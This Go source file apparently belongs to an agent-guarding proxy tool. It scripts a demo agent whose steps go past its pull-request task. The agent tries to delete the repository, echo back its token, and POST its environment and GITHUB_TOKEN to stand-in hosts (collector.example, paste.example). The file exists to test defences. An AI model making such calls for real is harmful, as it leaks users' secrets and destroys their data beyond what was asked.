package cmd

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httputil"
	"os"
	"strings"
	"time"

	"github.com/urfave/cli/v2"

	"agentguard/run/audit"
)

// The hosts of the demo. Names under .example lead nowhere (RFC 2606 section 2): if something went round the proxy, it
// would not get far.
const (
	demoAPI     = "api.github.com"
	demoPaste   = "paste.example"
	demoUnknown = "collector.example"
	demoRepo    = "/repos/myorg/myrepo"
)

// demoStep is one thing that the demo's agent tries.
type demoStep struct {
	name, method, url string
	bearer            bool // send the agent's GITHUB_TOKEN as its bearer
	body              string
	says              string
}

func demoSteps(environ []string) []demoStep {
	loot, _ := json.Marshal(environ)
	return []demoStep{
		{"pull", "POST", "https://" + demoAPI + demoRepo + "/pulls", true,
			`{"title":"Test PR","head":"feature-branch","base":"main"}`, "open a pull request, as it was told to"},
		{"delete", "DELETE", "https://" + demoAPI + demoRepo, true, "", "delete the repository"},
		{"echo", "GET", "https://" + demoAPI + demoRepo + "/contents/debug", true, "", "have the API give the Authorization header back"},
		{"unknown", "POST", "https://" + demoUnknown + "/", true, string(loot), "send the token to a host of its own"},
		{"credential", "GET", "https://" + demoPaste + "/me", true, "", "use the token at another host"},
		{"paste", "POST", "https://" + demoPaste + "/new", false, string(loot), "paste its whole environment somewhere"},
	}
}

// demoExchange is what one step got back, byte for byte.
type demoExchange struct {
	Step   string
	Status int    // 0: no answer
	Answer string // headers and body
	Error  string
}

// demoTranscript is everything that the agent of the demo ever got: what the demo searches for the secret.
type demoTranscript struct {
	Environ   []string
	Exchanges []demoExchange
}

func (t demoTranscript) exchange(step string) demoExchange {
	for _, e := range t.Exchanges {
		if e.Step == step {
			return e
		}
	}
	return demoExchange{Step: step, Error: "never tried"}
}

// demoAgentCommand is the child of the demo: this binary again, since a machine with nothing but Go has no other client.
// It knows no more than any agent would.
func (p *program) demoAgentCommand() *cli.Command {
	return &cli.Command{
		Name:   "demo-agent",
		Hidden: true,
		Usage:  "the agent that the demo runs",
		Action: func(c *cli.Context) error {
			a, err := arguments(c, 1, 1)
			if err != nil {
				return err
			}
			return p.demoAgent(a[0])
		},
	}
}

func (p *program) demoAgent(transcriptFile string) error {
	client, err := clientOf(p.env)
	if err != nil {
		return err
	}
	t := demoTranscript{Environ: p.env}
	for _, e := range p.env {
		if strings.HasPrefix(e, "GITHUB_TOKEN=") {
			p.print("$ env | grep GITHUB\n%s\n", audit.SafeText(e))
		}
	}
	for _, step := range demoSteps(p.env) {
		p.print("\n# %s\n%s %s\n", step.says, step.method, step.url)
		e := try(client, step, p.env.get("GITHUB_TOKEN"))
		p.print("%s\n", audit.SafeText(e.line()))
		t.Exchanges = append(t.Exchanges, e)
	}
	text, err := json.Marshal(t)
	if err != nil {
		return err
	}
	return os.WriteFile(transcriptFile, text, 0o600)
}

// clientOf is Go's usual client, but told of the CA file on every system: on macOS and Windows Go asks the system's
// store instead of SSL_CERT_FILE.
func clientOf(env environment) (*http.Client, error) {
	roots, err := x509.SystemCertPool()
	if err != nil {
		roots = x509.NewCertPool()
	}
	if f := env.get("SSL_CERT_FILE"); f != "" {
		text, err := os.ReadFile(f)
		if err != nil {
			return nil, err
		}
		roots.AppendCertsFromPEM(text)
	}
	return &http.Client{
		Timeout: 10 * time.Second,
		Transport: &http.Transport{
			Proxy:             http.ProxyFromEnvironment,
			TLSClientConfig:   &tls.Config{RootCAs: roots},
			ForceAttemptHTTP2: true,
		},
	}, nil
}

func try(client *http.Client, step demoStep, token string) demoExchange {
	e := demoExchange{Step: step.name}
	req, err := http.NewRequest(step.method, step.url, strings.NewReader(step.body))
	if err != nil {
		e.Error = err.Error()
		return e
	}
	req.Header.Set("User-Agent", "demo-agent")
	if step.body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if step.bearer {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	res, err := client.Do(req)
	if err != nil {
		e.Error = err.Error()
		return e
	}
	defer res.Body.Close()
	res.Body = io.NopCloser(io.LimitReader(res.Body, 1<<20))
	answer, err := httputil.DumpResponse(res, true)
	if err != nil {
		e.Error = err.Error()
	}
	e.Status, e.Answer = res.StatusCode, string(answer)
	return e
}

// line is the answer as the agent tells of it.
func (e demoExchange) line() string {
	if e.Status == 0 {
		return "-> no connection: " + e.Error
	}
	_, body, _ := strings.Cut(e.Answer, "\r\n\r\n")
	var refusal struct{ Error, Hint, By string }
	if json.Unmarshal([]byte(body), &refusal) == nil && refusal.By != "" {
		return fmt.Sprintf("-> %d %s (%s: %s)", e.Status, refusal.Error, refusal.By, refusal.Hint)
	}
	var shown bytes.Buffer
	if json.Compact(&shown, []byte(body)) != nil {
		shown.WriteString(body)
	}
	return fmt.Sprintf("-> %d %s", e.Status, strings.TrimSpace(shown.String()))
}
